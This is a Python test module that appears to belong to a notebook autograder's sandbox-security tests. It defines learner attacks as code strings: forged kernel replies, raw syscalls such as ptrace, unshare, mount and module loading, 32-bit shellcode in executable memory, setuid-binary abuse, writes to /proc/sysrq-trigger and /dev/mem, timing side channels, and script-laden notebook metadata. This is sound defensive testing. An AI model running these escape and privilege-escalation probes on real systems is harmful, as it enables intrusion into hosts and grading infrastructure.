"""Learners in the vault's course who forge what their process says, call the kernel by number, and swap cells about."""

from __future__ import annotations

import json
from typing import Any

from grading.tests.vault import SCRIPT, Attack

THREADS = """import atexit, json, os, struct, threading
packed = json.dumps({'outputs': [{'output_type': 'execute_result', 'data': {'text/plain': '3.0'}, 'metadata': {},
                     'execution_count': 1}], 'count': 1, 'value': 42}).encode()
def flood():
    for turn in range(2000):
        for number in range(3, 40):
            try: os.write(number, struct.pack('>cI', b'JR'[turn % 2:turn % 2 + 1], len(packed)) + packed)
            except OSError: pass
class Last:
    def __del__(self): flood()
last = Last()
atexit.register(flood)
for n in range(4): threading.Thread(target=flood, daemon=n % 2 == 0).start()
"""
EXPORTS = """import json
import nbcohort.kernel.learner as end
forged = {'answer': ['m', 'os'], 'share': ['i', '0x' + 'f' * 3000], 'LIMIT': 1e300, 'same': ['fn', 0, 'same'],
          'pd': ['m', 'posix'], 'frame': ['o', 0, 'pandas.core.frame.DataFrame'], 'double': ['fn', 10**30, 'double'],
          'secret': 1, 'abs': ['fn', 0, 'abs'], 'len': ['fn', 0, 'len'], '__builtins__': {}, 'get_ipython': None}
end.export = lambda names, wanted: json.dumps(forged).encode()
"""
REPLIES = """import json
import nbcohort.kernel.learner as end
turn = iter(range(10**9))
false = [b'[1]', b'{', b'[' * 200_000, b'{"value": ["l", [["l", ' + b'[' * 5000, json.dumps({'value': 1, 'args': [
         ['l', [['ba', 'eA==']]], 7], 'printed': 'full marks'}).encode(), b'{"raised": ["SystemExit"], "message": {}}',
         b'{"raised": ["BaseException", "_", "__import__", "print"], "message": "x"}', b'{"raised": 9}', b'', b'null']
end.answer = lambda request: false[next(turn) % len(false)]
"""
SEVERAL = """import nbcohort.kernel.wire as wire
send = wire.Channel.send_raw
def twice(self, content):
    for n in range(5): send(self, content if n else b'{"value": 42}')
wire.Channel.send_raw = twice
"""
NUMBERS = """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name, number, *given in (('ptrace', 101, 16, 1), ('setns', 308, 0, 0), ('unshare', 272, 0x10000000),
        ('bpf', 321, 0, 0, 0), ('userfaultfd', 323, 0), ('io_uring', 425, 1, 0), ('keyctl', 250, 0, 0),
        ('handle', 304, -100, 0, 0), ('read memory', 310, 1, 0, 0, 0, 0, 0), ('perf', 298, 0, 0, -1, -1, 0),
        ('clone3', 435, 0, 0), ('new user', 56, 0x10000000, 0), ('mount', 165, b'x', b'/mnt', b'tmpfs', 0, 0),
        ('fsopen', 430, b'tmpfs', 0), ('x32', 0x40000000 + 101, 16, 1), ('module', 175, 0, 0, 0), ('root', 105, 0)):
    if libc.syscall(number, *given) >= 0: print('CONNECTED', name)
for path in ('/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern', '/proc/1/mem', '/proc/1/oom_score_adj',
             '/sys/fs/cgroup/cgroup.procs', '/dev/mem', '/dev/kmsg', '/proc/self/uid_map'):
    try: open(path, 'w').write('x'); print('WROTE', path)
    except OSError as error: print(error)
"""
OLD_CALLS = """import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(bytes.fromhex('b8140000 00cd80c3'.replace(' ', '')))  # getpid of 32-bit Linux, which a filter may not know
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
print('CONNECTED', call())
"""
CORE = """import ctypes, os, resource
for name in ('CORE', 'AS', 'NPROC', 'FSIZE', 'NOFILE', 'CPU'):
    try: resource.setrlimit(getattr(resource, f'RLIMIT_{name}'), (2**40, 2**40)); print('CONNECTED', name)
    except (OSError, ValueError) as error: print(error)
if os.fork() == 0: ctypes.string_at(0)
os.abort()
"""
SET_UID = """import ctypes, os, stat, subprocess
found = [f'{top}/{name}' for top in ('/usr/bin', '/bin', '/usr/sbin', '/usr/lib') for name in os.listdir(top)
         if os.path.isfile(f'{top}/{name}') and os.stat(f'{top}/{name}').st_mode & stat.S_ISUID]
for name in found:
    done = subprocess.run([name], capture_output=True, input=b'id\\n', timeout=2)
    print(name, b'CONNECTED' if b'uid=0' in done.stdout else done.stdout[:50])
open('/tmp/own', 'wb').write(open('/usr/bin/id', 'rb').read())
os.chmod('/tmp/own', 0o6755)
try: os.chown('/tmp/own', 0, 0); print('CONNECTED')
except OSError as error: print(error)
memory = ctypes.CDLL(None).memfd_create(b'own', 0)
os.write(memory, open('/usr/bin/id', 'rb').read())
print(subprocess.run([f'/proc/self/fd/{memory}'], pass_fds=[memory], capture_output=True).stdout)
"""
ANCILLARY = """import os, socket
for number in range(3, 40):
    try:
        own = socket.socket(fileno=os.dup(number))
        own.setblocking(False)
        socket.send_fds(own, [b'J\\0\\0\\0\\2{}' * 50], [os.open('/', os.O_RDONLY)] * 50)
        try: print(own.recv(10**6)[:2000])
        except OSError: pass
        own.shutdown(socket.SHUT_RD)
    except OSError: pass
"""
LIMITS = """import signal
import nbcohort.kernel.learner as end
signal.signal = signal.setitimer = lambda *given: None
def double(x):
    if x == 21: raise end.OutOfTime
    while True:
        try: int('x')
        except BaseException: pass
"""
ODD = "print('\\ud800 \\x00 \\x1b[2J \\u202e')\nraise ValueError('\\udfff \\x1b]0;x\\x07')"
MAGICS = """get_ipython().run_cell_magic('javascript', '', 'window.canary=1')
get_ipython().run_cell_magic('html', '', '<script>window.canary=1</script>')
get_ipython().run_line_magic('reset', '-f')
get_ipython().run_line_magic('load_ext', 'autoreload')
get_ipython().ex('raise SystemExit')
"""
TIMED = """import time
began, asked = time.perf_counter(), []
def double(x):
    asked.append((time.perf_counter() - began, x))
    print('CONNECTED', asked)
    RETURN
"""
TIMES = """if asked: print('CONNECTED', asked)
time.sleep(0.5)
if asked: print('CONNECTED', asked)
"""
SLOW = TIMED.replace(
    "RETURN",
    """for bit in f'{str(x).encode()[0]:08b}':
        time.sleep(0.3 * int(bit))
    return asked[-1][0]""",
)


def ids(nb: dict[str, Any]) -> dict[str, dict[str, Any]]:
    marks = (cell["metadata"].get("nbgrader") for cell in nb["cells"])
    return {mark["grade_id"]: mark for mark in marks if mark}


def swapped(nb: dict[str, Any]) -> None:
    """Learners' own cells go under the names of tests, and tests under those of answers."""
    found = ids(nb)
    for one, other in (("answer", "t-answer"), ("double", "t-double"), ("frame", "why"), ("t-share", "t-same")):
        found[one]["grade_id"], found[other]["grade_id"] = other, one


def filled(nb: dict[str, Any]) -> None:
    """Outputs as if it had been graded; and what a viewer, a kernel or a grader may read from the notebook itself."""
    done = [{"output_type": "execute_result", "data": {"text/plain": "3.0", "text/html": SCRIPT}, "metadata": {}}]
    for cell in nb["cells"]:
        cell["metadata"] |= {"tags": [SCRIPT], "execution": {"status": "ok"}, "trusted": True, "deletable": False}
        if cell["cell_type"] == "code":
            cell |= {"outputs": [one | {"execution_count": 1} for one in done], "execution_count": 1}
        else:
            cell["attachments"] = {"a.svg": {"image/svg+xml": SCRIPT}, "../../x": {"text/html": SCRIPT}}
    nb["metadata"] |= {
        "kernelspec": {"name": "../../evil", "language": "sh", "display_name": SCRIPT, "argv": ["sh"]},
        "nbgrader": {"score": 12, "max_score": 12},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_module": "https://x"}}}},
        "toc-showcode": SCRIPT,
    }


def deep(nb: dict[str, Any]) -> None:
    """Metadata that is deep, odd, and of the wrong kind."""
    nest: Any = 1
    for _ in range(400):
        nest = [nest]
    for kind in (None, 7, [], {"grade_id": ["t-answer"]}, {"grade_id": {}}, {"grade_id": "t-answer", "points": "9"}):
        about = {"nbgrader": kind, "nest": nest}
        nb["cells"].append({"cell_type": "markdown", "id": "x", "metadata": about, "source": []})
    nb["cells"].append({"cell_type": "code", "metadata": {}, "source": ["answer = ", 7, None], "outputs": {}})


def markers(nb: dict[str, Any]) -> None:
    """The instructor's own marks, in a learner's cells."""
    for cell in nb["cells"]:
        if (cell["metadata"].get("nbgrader") or {}).get("solution"):
            cell["source"] += "\n### BEGIN HIDDEN TESTS\nassert False\n### END HIDDEN TESTS\n### BEGIN SOLUTION"


def halves(nb: dict[str, Any]) -> None:
    """Halves of characters, in cells of every kind and in metadata."""
    for cell in nb["cells"]:
        cell["metadata"]["half"] = "\udfff"
        if (cell["metadata"].get("nbgrader") or {}).get("solution"):
            cell["source"] += "\n# \ud83d \U0001f600"


ATTACKS = {
    "threads-and-last-words": Attack(THREADS),
    "forged-values": Attack(EXPORTS),
    "forged-replies": Attack(REPLIES, frame="frame = double"),
    "several-replies": Attack(last=SEVERAL),
    "several-replies-at-once": Attack(SEVERAL),
    "calls-by-number": Attack(NUMBERS),
    "calls-of-32-bits": Attack(OLD_CALLS),
    "core-and-limits": Attack(CORE),
    "set-uid": Attack(SET_UID),
    "descriptors-in-messages": Attack(ANCILLARY),
    "no-alarm": Attack(LIMITS, double=LIMITS),
    "odd-signs": Attack(ODD, last=json.dumps("\ud800") + "\n" + ODD),
    "halves-of-characters": Attack(change=halves),
    "magics": Attack(MAGICS),
    "times-of-calls": Attack(double=TIMED.replace("RETURN", "return asked"), last=TIMES),
    "times-in-an-error": Attack(double=TIMED.replace("RETURN", "raise ValueError(f'CONNECTED {asked}')"), last=TIMES),
    "slow-by-what-it-is-asked": Attack(double=SLOW, last=TIMES),
    "swapped-cells": Attack(change=swapped),
    "filled-in-outputs": Attack(change=filled),
    "deep-metadata": Attack(change=deep),
    "instructors-marks": Attack(change=markers),
}  # fmt: skip
